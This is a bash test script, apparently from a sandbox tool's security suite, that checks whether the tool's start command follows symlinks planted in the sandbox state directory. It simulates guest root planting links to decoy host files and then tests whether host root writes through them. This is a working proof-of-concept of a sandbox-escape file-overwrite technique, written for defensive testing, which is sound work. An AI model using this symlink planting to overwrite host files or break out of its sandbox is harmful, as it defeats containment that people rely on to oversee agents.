#!/bin/bash
# 01: the namespace start writes spec-files and spec.json (os.WriteFile as
# host root, following symlinks) into the sandbox's state dir, which is
# owned by the sandbox's root (host uid of guest 0). Whoever holds that
# uid (the init before it closes its state descriptor; anything that gets
# guest root) can leave spec-files / spec.json as a symlink to a host file
# before the next `airlock start`. Simulated here by planting the links as
# that host uid (setpriv) while the sandbox is stopped, the way guest root
# would have left them. Got through = `airlock start` writes the CA bundle
# (or the spec JSON) over a root-owned host file outside the state dir.
# Not a path the agent (uid 1000, no_new_privs) has by itself: it needs
# guest root, so this is defence in depth.
. "$(dirname "$0")/../lib.sh"
mkdir -p "$T/repo" && cd "$T/repo" && git init -q && echo hi > a.txt || exit 2
write_sandbox clone; up_sandbox
S=$AIRLOCK_HOME/vm/namespace/$N; U=$(stat -c %u "$S") || exit 2
[ "$U" != 0 ] || { echo "state dir owned by host root: nothing to plant as"; exit 2; }
echo "state dir owner $U; before stop:"; ls -ln "$S" | grep -E 'spec|ssh.sock'
airlock stop "$N" >/dev/null || exit 2
echo ORIGINAL > "$T/victim1"; echo ORIGINAL > "$T/victim2"; chmod 600 "$T/victim"*
chmod 711 "$T"   # host root follows links anyway; only so setpriv can name the targets
# (cd as host root first: guest root reaches the dir through a descriptor)
(cd "$S" && setpriv --reuid="$U" --regid="$U" --clear-groups sh -c "rm -f spec-files spec.json && ln -s '$T/victim1' spec-files && ln -s '$T/victim2' spec.json") || exit 2
ls -ln "$S" | grep spec
airlock start "$N" >"$T/start.log" 2>&1; echo "start rc=$? $(tr '\n' ' ' <"$T/start.log")"
for v in victim1 victim2; do
	echo "$v: $(stat -c '%U %s bytes' "$T/$v"), starts with: $(head -c 40 "$T/$v" | tr '\n' ' ')"
	grep -q ORIGINAL "$T/$v" || { echo "host root wrote through the planted $v link"; R=1; }
done
finish
